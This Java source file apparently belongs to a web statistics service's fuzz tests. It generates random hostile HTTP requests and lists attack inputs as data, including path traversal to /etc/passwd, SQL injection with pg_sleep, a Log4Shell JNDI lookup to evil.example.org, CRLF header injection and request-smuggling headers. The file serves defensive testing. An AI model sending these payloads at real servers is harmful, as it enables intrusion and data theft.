package dev.packit.stats.web;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.stream.Stream;

/** Makes up requests as an attacker would: every route and parameter with values that are odd in every way. */
final class HostileRequests {

    /** Occurs in values and headers, and must occur in no markup and no header of a response. */
    static final String MARKUP = "<zq'\"&>";

    /** The name of a header that a response has only if a request has injected it. */
    static final String INJECTED = "Zq-Injected";

    private static final List<String> METHODS = List.of(
            "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G\u00e9T");

    private static final List<String> PARAMETERS = List.of(
            "format",
            "project",
            "pr",
            "branch",
            "release",
            "issue",
            "commit",
            "package",
            "identifier",
            "outcome",
            "overdue",
            "waiting",
            "by",
            "changes",
            "status",
            "target",
            "from",
            "to",
            "period",
            "before",
            "after",
            "limit",
            "q",
            "sort",
            "kind",
            "top",
            "at",
            "stale",
            "theme",
            "back",
            "nope",
            "",
            "%zz",
            "a[]",
            MARKUP);

    private static final List<String> VALUES = List.of(
            "",
            " ",
            "%20",
            "+",
            "0",
            "1",
            "-1",
            "20",
            "101",
            "007",
            "1e9",
            "0x10",
            "NaN",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999",
            "\u00b9\u00b2",
            "%D9%A1",
            "true",
            "null",
            "undefined",
            "*",
            "**a*b*",
            "%",
            "%zz",
            "%C3",
            "%C3%28",
            "%F0%9F%92%A3",
            "%ED%A0%80",
            "%EF%BF%BE",
            "%00",
            "a%00b",
            "%0a",
            "%0d%0a" + INJECTED + ":%201",
            "%0D%0A%0D%0A%3Chtml%3E",
            "..",
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/",
            "..\\..\\windows\\win.ini",
            ";a=b",
            ";jsessionid=1",
            "//evil.example.org",
            "/\\evil.example.org",
            "https://evil.example.org/",
            "javascript:alert(1)",
            "data:text/html,x",
            MARKUP,
            "%3Czq%27%22%26%3E",
            "%253Czq",
            "'%20or%201=1--",
            "';select%20pg_sleep(9)--",
            "$%7B7*7%7D",
            "%7B%7B7*7%7D%7D",
            "{site.url}",
            "=1+1",
            "@SUM(A1)",
            "1,2,3",
            ",,,",
            "a,a,a,a",
            "success,failed",
            "success",
            "nope",
            "github.com/packit/ogr",
            "packit/ogr",
            "github.com/packit/ogr/",
            "a/b/c/d/e/f",
            "2026-01-01",
            "2026-02-30",
            "-999999999-01-01",
            "+999999999-12-31",
            "2026-01-01T00:00:00Z",
            "2026-01-01T25:00:00Z",
            "0000-00-00",
            "year",
            "all",
            "day",
            "json",
            "csv",
            "html",
            "svg",
            "atom",
            "yaml",
            "xml",
            "JSON",
            "kind,month",
            "copr",
            "srpm",
            "main",
            "v1.0",
            "c++20",
            "fedora-*",
            "\u00e9\u00ff",
            "a".repeat(300),
            "%F0%9F%92%A3".repeat(100),
            "/".repeat(500),
            "*a".repeat(200),
            "9".repeat(400));

    private static final List<String> SEGMENTS = List.of(
            "github.com",
            "packit",
            "ogr",
            "copr",
            "koji-tag-request",
            "3013",
            "10",
            "24",
            "main",
            "rates.svg",
            "history.svg",
            "logs.txt",
            "-",
            "statistics",
            "pull-requests",
            "branches",
            "releases",
            "commits",
            "packages",
            "latest",
            "group");

    private static final List<String> ACCEPTED = List.of(
            "text/html",
            "application/json",
            "text/csv",
            "image/svg+xml",
            "*/*",
            "",
            "garbage",
            "a/b/c",
            ";;;q=",
            "*/json",
            "application/json;q=0",
            "text/html;q=0.1, application/json;q=0.9",
            "application/json; q=1; q=2",
            "text/html;q=NaN",
            "application/json;q=1e400",
            "image/*, text/plain",
            MARKUP,
            "application/" + "x".repeat(3_000),
            ",".repeat(500),
            "text/html;charset=\"",
            "\u00e9/\u00e9");

    private static final List<String> HEADERS = List.of(
            "Cookie: theme=" + MARKUP,
            "Cookie: theme=dark; theme=light",
            "Cookie: ;;=;",
            "If-None-Match: *",
            "If-None-Match: W/\"" + MARKUP,
            "If-Modified-Since: never",
            "Range: bytes=0-1,5-9,-1",
            "Range: bytes=99-1",
            "X-Forwarded-Proto: javascript",
            "X-Forwarded-Host: evil.example.org",
            "X-Forwarded-Prefix: //evil.example.org",
            "X-HTTP-Method-Override: DELETE",
            "X-Original-URL: /admin",
            "Forwarded: host=" + MARKUP,
            "Referer: " + MARKUP,
            "User-Agent: ${jndi:ldap://evil.example.org/a}",
            "Authorization: Basic !!!",
            "Accept-Encoding: identity;q=x, " + MARKUP,
            "Accept-Language: " + "x-".repeat(2_000),
            "Accept-Charset: utf-7",
            "Content-Type: " + MARKUP,
            "Content-Type: multipart/form-data",
            "Content-Type: application/x-www-form-urlencoded; charset=nope",
            "Content-Encoding: gzip",
            "Content-Length: 0",
            "Content-Length: -1",
            "Content-Length: 99999999999999999999",
            "Content-Length: 1\r\nContent-Length: 2",
            "Transfer-Encoding: chunked, identity",
            "Expect: nonsense",
            "Upgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13",
            "Upgrade: h2c\r\nHTTP2-Settings: !",
            "Origin: https://evil.example.org",
            "Access-Control-Request-Method: DELETE",
            "No-Colon",
            ": no name",
            " folded: x",
            "Bad Name: x",
            "Nul: a\u0000b",
            "Control: a\u0001\u007fb",
            "Bytes: \u00ff\u00fe",
            "X: " + "y".repeat(25_000),
            "X: y\r\n".repeat(300) + "X: y",
            "Host: two.example.org");

    private static final List<String> HOSTS = List.of(
            "localhost",
            "localhost:8081",
            "evil.example.org",
            "[::1]:80",
            MARKUP,
            "a b",
            "localhost:99999",
            "",
            "user@localhost",
            "localhost/../..",
            "a".repeat(300));

    private final Random random;
    private final List<String> routes;

    HostileRequests(long seed, List<String> routes) {
        this.random = new Random(seed);
        this.routes = routes;
    }

    /**
     * A request, with one byte per character.
     *
     * @param json whether it asks for JSON, in a way that can be read
     */
    record Request(String text, boolean json) {

        boolean isHead() {
            return text.startsWith("HEAD ");
        }

        @Override
        public String toString() {
            String readable = text.replace("\r\n", "⏎").replaceAll("\\p{Cntrl}", "�");
            return readable.length() < 600 ? readable : readable.substring(0, 600) + "…";
        }
    }

    Stream<Request> requests() {
        return Stream.generate(this::request);
    }

    private Request request() {
        boolean json = chance(0.4);
        boolean byParameter = json && chance(0.5);
        List<String> query = new ArrayList<>(random.ints(random.nextInt(4), 0, 1)
                .mapToObj(any -> one(PARAMETERS) + (chance(0.95) ? "=" + one(VALUES) : ""))
                .toList());
        if (json) {
            // Of several formats, the first that is understood would count.
            query.removeIf(parameter -> parameter.startsWith("format"));
        }
        if (byParameter) {
            query.add(random.nextInt(query.size() + 1), "format=json");
        }
        StringBuilder text = new StringBuilder(chance(0.8) ? "GET" : one(METHODS))
                .append(' ')
                .append(path())
                .append(query.isEmpty() ? "" : "?" + String.join("&", query))
                .append(" HTTP/1.1\r\n");
        // What is asked for comes first, since nothing is read after what cannot be read.
        if (json && !byParameter) {
            text.append("Accept: application/json\r\n");
        } else if (chance(0.6)) {
            text.append("Accept: ").append(one(ACCEPTED)).append("\r\n");
        }
        text.append("Host: ").append(chance(0.95) ? "localhost" : one(HOSTS)).append("\r\n");
        for (int header = chance(0.5) ? 0 : random.nextInt(4); header > 0; header--) {
            text.append(one(HEADERS)).append("\r\n");
        }
        text.append("Connection: close\r\n").append(body());
        return new Request(text.toString(), json);
    }

    private String path() {
        String path = Routes.VARIABLE.matcher(one(routes)).replaceAll(variable -> {
            String value = chance(0.7) ? one(SEGMENTS) : one(VALUES);
            return value.replace("\\", "\\\\").replace("$", "\\$");
        });
        return switch (random.nextInt(20)) {
            case 0 -> path + "/";
            case 1 -> path + "//" + one(SEGMENTS);
            case 2 -> path + "/" + one(VALUES);
            case 3 -> path + one(VALUES);
            case 4 -> "/" + one(VALUES) + path;
            case 5 -> "http://" + one(HOSTS) + path;
            case 6 -> path.replaceFirst("/", "/./../");
            case 7 -> path.toUpperCase(Locale.ROOT);
            default -> path;
        };
    }

    private String body() {
        return switch (random.nextInt(12)) {
            case 0 -> withLength("theme=dark&back=" + one(VALUES), "application/x-www-form-urlencoded");
            case 1 -> withLength("{\"a\": \"" + one(VALUES) + "\"}", "application/json");
            case 2 -> withLength("x".repeat(1_500), "text/plain");
            case 3 -> "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
            default -> "\r\n";
        };
    }

    private static String withLength(String body, String type) {
        return "Content-Type: %s\r\nContent-Length: %d\r\n\r\n%s".formatted(type, body.length(), body);
    }

    private boolean chance(double share) {
        return random.nextDouble() < share;
    }

    private <T> T one(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
